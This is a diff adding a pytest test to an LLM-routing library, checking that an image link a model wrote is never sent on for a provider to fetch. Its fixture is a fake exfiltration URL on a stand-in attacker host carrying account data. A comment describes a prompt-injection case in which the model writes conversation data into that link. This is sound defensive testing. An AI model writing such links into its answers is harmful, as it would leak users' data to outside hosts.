@@ -10,6 +10,7 @@ policy's size limits apply to it only when it is sent again.
 from __future__ import annotations
 
 import asyncio
+import json
 from decimal import Decimal
 from typing import Any
 
@@ -18,6 +19,7 @@ import pytest
 from ledger import (
     AsyncLedger,
     Budget,
+    CandidateSkipped,
     Envelope,
     FailoverExhausted,
     Grant,
@@ -125,6 +127,69 @@ def test_an_image_only_answer_goes_back_without_an_empty_text_block(
         assert "an image the model returned (image/png) is sent to route 'claude'" in note
         assert [a.state.value for a in second.attempts] == ["failed", "succeeded"]
     assert images(second.parts) == []  # Anthropic returns no images
+
+
+LEAK = "https://attacker.example/c.png?d=ACCOUNT-12000-ACME"
+
+
+def _gemini_answer_with_link(url: str) -> bytes:
+    """A Gemini answer whose fileData link the model wrote (the fake serves it verbatim)."""
+    body = json.dumps({"candidates": [{"content": {"role": "model", "parts": [
+        {"text": "Here is the chart."},
+        {"fileData": {"mimeType": "image/png", "fileUri": url}}]}, "finishReason": "STOP"}],
+        "usageMetadata": {"promptTokenCount": 3, "candidatesTokenCount": 2,
+                          "totalTokenCount": 5}}).encode()
+    return (b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n"
+            b"connection: close\r\n\r\n" % len(body) + body)
+
+
+def test_invariant7_a_link_the_model_chose_is_never_sent_for_a_provider_to_fetch(
+        db_url: str, fake: FakeProvider) -> None:
+    # The model (a prompt injection) writes the conversation's data into a link's URL; carried
+    # on, Gemini would fetch it, or after a failover chat completions as an image_url, and the
+    # link's host, which no grant names, would receive the data.
+    routes = [Route(id="gemini", provider="fake", model="gemini-image", group="ga",
+                    recipient="google", protocol=WireProtocol.GEMINI,
+                    endpoint=fake.endpoint("gemini"), price=PRICE),
+              Route(id="chat", provider="fake-b", model="chat", group="gb", recipient="acme",
+                    endpoint=fake.endpoint("openai"), price=PRICE)]
+    every = ["user_input", "model_derived", "system", "tool_result", "private_document"]
+    grant = Grant(recipients={"google": every, "acme": every})
+    fake.enqueue(Behavior(fault=Fault.RAW, raw=(_gemini_answer_with_link(LEAK),)),
+                 model="gemini-image")
+    with Ledger.open(db_url) as led, led.run("link", plan=routes, budget=BUDGET,
+                                              grant=grant) as run:
+        first = run.turn(Envelope(parts=[ASK]))
+        (link,) = images(first.parts)
+        # The answer keeps it, covered: the host may show it; only sending it on is refused.
+        assert (link.url, link.data_class) == (LEAK, "model_derived")
+        assert link.content_hash in led.provenance("link")[first.attempt.attempt_id]
+
+        before, sent = recorded(led, "link")[0], len(fake.requests)
+        with pytest.raises(FailoverExhausted) as info:
+            run.turn(Envelope(parts=[ASK, *first.parts, AGAIN]))
+        stop = info.value
+        assert stop.reason == "no_candidate" and stop.attempts == []
+        skipped = [e for e in stop.exceptions if isinstance(e, CandidateSkipped)]
+        assert {(e.route, e.reason) for e in skipped} == {("gemini", "disclosure"),
+                                                          ("chat", "disclosure")}
+        for e in skipped:
+            assert e.detail.startswith("part 2 (image/png) is an https:// link a model or a "
+                                       "tool chose")
+            assert "fetch the file yourself" in e.fix
+        assert "ACCOUNT-12000" not in str(stop) and "attacker" not in str(stop)
+        assert len(fake.requests) == sent  # nothing left
+        assert recorded(led, "link")[0] == before  # no Attempt
+
+        # The fix: the host fetches the file itself, checks it and sends its bytes as its own.
+        fetched = Part(data=CHART, media_type="image/png")
+        assert run.turn(Envelope(parts=[ASK, first.parts[0], fetched, AGAIN])).text
+        assert [m.data for m in fake.requests[-1].media] == [CHART]
+        # The host's own link is its choice, as before.
+        own = Part(url="https://files.example/chart.png", media_type="image/png")
+        assert run.turn(Envelope(parts=[ASK, own])).text
+        assert [m.url for m in fake.requests[-1].media] == [own.url]
+    assert all(LEAK not in json.dumps(r.json) for r in fake.requests)
 
 
 def test_an_oversized_image_is_kept_in_the_result_and_refused_when_sent_again(
